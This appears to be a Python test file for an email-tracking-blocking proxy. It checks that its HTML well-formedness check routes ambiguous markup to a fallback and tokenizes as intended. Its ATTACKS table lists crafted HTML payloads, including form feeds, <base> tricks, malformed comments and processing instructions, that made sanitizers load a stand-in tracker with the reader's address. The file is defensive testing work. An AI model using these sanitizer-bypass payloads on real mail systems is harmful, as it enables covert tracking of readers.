"""Markup every reader cuts into the same tags (beacon_proxy.rewrite.wellformed).

Session 18's second attack on Roundcube's washer (its own PHP code, libxml2 and
Masterminds' HTML5 parser, then Chromium) beat a model of its parsers and a search for
stray URLs with malformed markup and URL spellings: each case here left the refused copy
"stripped" while the washed copy loaded the tracker.  The precise path now reads only
markup every reader cuts alike; the rest goes to the fallback.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from beacon_proxy.consent.policy import Policy
from beacon_proxy.rewrite.copies import CopyPolicy, Outcome, decide, prepare
from beacon_proxy.rewrite.wellformed import _ONE_TOKEN, malformed, quoted_values, token_starts
from tests.rewrite.test_webmail import ENGINE, U, _message

T = "https://t.oracle-tracker.example/"
ATTACKS = {
    "form_feed_in_unquoted_value":
        "<img src=https://cdn.example/a.gif\x0c?e=reader%40example.org>",
    "base_and_odd_tag_name": f'<base href="{T}"><img? src="x.gif?e=reader%40example.org">',
    "base_and_cut_off_tag": f'<base href="{T}"><p>x</p><img src="x.gif?e=reader%40example.org',
    "base_and_dash_declaration": f'<base href="{T}"><p>x</p><!- <img src="x.gif?e=1"> ->',
    "base_and_repeated_src": f'<base href="{T}"><img src=a.png src="x.gif?e=reader%40ex.org">',
    "tab_reference_in_url":
        '<img? src="http:/&#9;/t.oracle-tracker.example/x.gif?e=reader%40example.org">',
    "comment_opener_in_a_value": f'<img? alt="<!--" src="{U}">',
    "lt_before_a_link": '<p>x <p <link rel="stylesheet" href="https://t.oracle-tracker.'
                        'example/x.css?e=reader%40example.org">y</p>',
    "vertical_tab": f"<img\x0b\nsrc={U}>",
    "processing_instruction": f"<p>x</p><?x > <!-- ?> <img src={U}> -->",
    "empty_comment": f"<p>x</p><!--><img src={U}>-->",
    "bang_comment_end": f"<!-- a --!><img src={U}> -->",
}


@pytest.mark.parametrize("case", list(ATTACKS))
def test_markup_other_readers_cut_otherwise_is_not_read_precisely(case: str) -> None:
    data = ATTACKS[case].encode("latin-1")
    assert malformed(data.lower()) is not None
    prepared = prepare(ENGINE, _message(data), CopyPolicy())
    for reader in ("reader@example.org", "someone@example.net"):
        copy = decide(ENGINE, prepared, reader, Policy.REFUSED, CopyPolicy())
        assert copy.outcome in (Outcome.FALLBACK, Outcome.HELD), copy.problems


TEMPLATES = sorted((Path(__file__).resolve().parents[3] / "shared" / "data" / "templates")
                   .glob("*.html"))


@pytest.mark.skipif(not TEMPLATES, reason="no shared templates")
def test_the_real_templates_are_read_alike() -> None:
    for path in TEMPLATES:
        assert malformed(path.read_bytes().lower()) is None, path.name


@pytest.mark.parametrize("html", [
    b'<?xml version="1.0" encoding="utf-8"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0'
    b' Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
    b'<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml">'
    b"<head><title>A &amp; B</title><style>p > a{color:red} <!-- x --></style></head>"
    b'<body><p class=MsoNormal>a > b<o:p></o:p></p><!--[if mso]><v:rect fill="t"/><![endif]-->'
    b'<!--[if !mso]><!--><p>x</p><!--<![endif]--><br/><img src=a.png alt=""/>'
    b'<a href="<%asm_unsubscribe_url%>">unsubscribe</a><td width=100% >x</td ></body></html>',
    b"<table border=0 cellpadding=0><tr><td valign=top>x</td></tr></table>",
    b'<img src="a.png" src="b.png">',  # (twice, but no <base>: see stray.py)
    # session 18's third attack: honest shapes not to send to the fallback
    b"<p>Prices < $10, <3 x<3</p><p title='a&#13;b'>c&#13;</p>",
    b'<a href=https://shop.example/?a=1&b=2>x</a><img src="a.png"alt="x">',
    b"<![if !mso]><p>x</p><![endif]><title>Deals <3</title><textarea>a < b</textarea>",
])
def test_honest_markup_is_read_alike(html: bytes) -> None:
    assert malformed(html.lower()) is None


@pytest.mark.parametrize(("html", "why"), [
    (b"<p>a <b c</p>", '"<" that opens no tag every reader reads alike'),
    (b'<p title="a">b</p><img src="x', "a tag not closed"),
    (b'<base href="https://a/"><p style="a" style="b">', "a loading attribute twice in one "
                                                          "tag (and a <base>)"),
])
def test_why_is_said(html: bytes, why: str) -> None:
    assert malformed(html.lower()) == why


@pytest.mark.parametrize("html", [
    b'<img alt="" ' + b"a" * 100 + b'src="x.gif">',  # libxml2: "src" of its own
    b"<img alt=y a@b='x src=x.gif'>",  # libxml2: "src" out of the value
    b"<" + b"i" * 100 + b">",
])
def test_names_libxml_reads_in_pieces_are_not_read_alike(html: bytes) -> None:
    assert malformed(html.lower()) is not None


_TOKENS = (b'<p class="a" title=\'say "hi" <3\'>x &lt; y</p>\n<!-- <a href="in-comment"> -->'
           b'<style>a[href="in-style"]{}</style><img src="i.png"alt="a > b"/>'
           b'<a href="https://s.example/?u=ABC123" data-x=plain>l</a>')


@pytest.mark.parametrize(("needle", "expected"), [
    (b"ABC123", (b"a", b"href")),
    (b'hi" <3', (b"p", b"title")),  # the other kind's quotes inside a value
    (b"a > b", (b"img", b"alt")),  # after a quoted value without a blank
    (b"in-comment", None),
    (b"in-style", None),
    (b"x &lt; y", None),  # text
    (b"plain", None),  # an unquoted value
    (b'i.png"alt', None),  # across two values
    (b"class", None),  # a name
])
def test_quoted_value_says_which_value_holds_a_stretch(
        needle: bytes, expected: tuple[bytes, bytes] | None) -> None:
    starts = token_starts(_TOKENS)
    assert starts is not None and starts[-1] == len(_TOKENS)
    at = _TOKENS.find(needle)
    assert quoted_values(_TOKENS, starts, [(at, at + len(needle))]) == [expected]


@given(st.lists(st.sampled_from([b"<p>", b"</p>", b"<a href='x'>", b'<i title="a>b">', b"t",
                                 b"<!-- c -->", b"<", b" ", b"<3", b'"', b"<style>s</style>",
                                 b"<br/>", b"&amp;"]), max_size=20).map(b"".join))
def test_tokens_cut_exactly_what_malformed_passes(low: bytes) -> None:
    """token_starts() reads a text as malformed() does: tokens end to end, to the text's
    end, exactly when it is well-formed."""
    starts = token_starts(low)
    assert (starts is not None) == (malformed(low) is None)
    if starts is not None:
        assert starts[0] == 0 and starts[-1] == len(low)
        assert list(starts) == sorted(set(starts))


def _plain_token_pattern() -> re.Pattern[bytes]:
    """The token pattern as first written: each alternative with its own "<", a quoted
    value as one loop of alternatives (wellformed.py factors the "<" out and unrolls
    the loop; the language and each token's end must stay the same)."""
    blank, name = rb"[ \t\r\n]", rb"[a-z0-9_:.-]{0,98}+(?![a-z0-9_:.-])"
    quoted = rb"""(?:"(?:[^"<]++|<(?![a-z!/?]))*+"|'(?:[^'<]++|<(?![a-z!/?]))*+')"""
    value = (quoted + rb"""|[^ \t\r\n\x0b\x0c"'=<>`][^ \t\r\n\x0b\x0c"'<>`]*+"""
             rb"|(?=[ \t\r\n]*+/?>)")
    attribute = (rb"[a-z_:]" + name + rb"(?:" + blank + rb"*+=" + blank + rb"*+(?:" + value
                 + rb"))?+")
    attributes = (rb"(?:(?:" + blank + rb"++|(?<=[\"']))" + attribute + rb")*+" + blank
                  + rb"*+")
    tag = rb"[a-z][a-z0-9:-]{0,98}+(?![a-z0-9:-])"
    raw = b"|".join(rb"<" + n + rb"(?![a-z0-9:-])" + attributes + rb">(?:[^<]++|<(?!/" + n
                    + rb"(?![a-z0-9:-])))*+</" + n + blank + rb"*+>"
                    for n in (b"style", b"script", b"title", b"textarea"))
    return re.compile(
        rb"[^<]++|" + raw + rb"|<(?=[ \t\r\n0-9-])|<=(?=[ \t\r\n])"
        rb"|<" + tag + attributes + rb"(?:/" + blank + rb"*+)?>"
        rb"|</" + tag + blank + rb"*+>"
        rb"|<!--(?!-?>)(?:[^-]++|-(?!-!?>))*+-->"
        rb"|<!doctype[^<>]*+>"
        rb"|<!\[(?:if[^<>\]]*+|endif)\]>"
        rb"|<\?xml(?:[^<>?]++|\?(?!>))*+\?>")


_PLAIN = _plain_token_pattern()
_BITS = st.sampled_from([b"<", b">", b"/", b"=", b'"', b"'", b" ", b"\n", b"a", b"-", b"!",
                         b"?", b"1", b"`", b"\x0c", b"%", b"<?", b"<!", b"<a", b"</a"])
_BITS_TEXT = st.lists(_BITS, max_size=4).map(b"".join)
_ATTRIBUTE = st.tuples(
    st.sampled_from([b" ", b"\n", b"", b"  "]), st.sampled_from([b"src", b"a", b"x-1", b":b"]),
    st.sampled_from([b"", b"=", b" = "]), st.sampled_from([b'"', b"'", b""]), _BITS_TEXT,
    st.sampled_from([b'"', b"'", b""])).map(b"".join)
_TAG = st.tuples(
    st.sampled_from([b"<", b"</"]), st.sampled_from([b"img", b"p", b"style", b"title", b"a"]),
    st.lists(_ATTRIBUTE, max_size=3).map(b"".join), st.sampled_from([b">", b"/>", b" >"])
).map(b"".join)
_PIECES = st.one_of(_TAG, _TAG, _TAG, _BITS_TEXT, st.sampled_from([
    b"<!--", b"-->", b"<!doctype", b"<![if", b"]>", b"<?xml", b"?>", b"</style>", b"<%"]))


@settings(max_examples=3000)
@given(st.lists(_PIECES, min_size=1, max_size=6))
def test_the_token_pattern_cuts_as_the_plain_one(pieces: list[bytes]) -> None:
    """From each piece on, token by token up to a "<" neither reads: the same ends."""
    low = b"".join(pieces)
    at = 0
    for piece in pieces:
        pos = at
        while pos < len(low):
            plain, token = _PLAIN.match(low, pos), _ONE_TOKEN.match(low, pos)
            assert (None if plain is None else plain.end()) == (
                None if token is None else token.end()), (low, pos)
            if plain is None:
                break
            pos = plain.end()
        if at == 0:
            assert (pos == len(low)) == (token_starts(low) is not None)
        at += len(piece)


@pytest.mark.skipif(not TEMPLATES, reason="no shared templates")
def test_the_token_pattern_cuts_the_templates_as_the_plain_one() -> None:
    for path in TEMPLATES:
        low = path.read_bytes().lower()
        assert [m.span() for m in _PLAIN.finditer(low)] == [
            m.span() for m in _ONE_TOKEN.finditer(low)], path.name
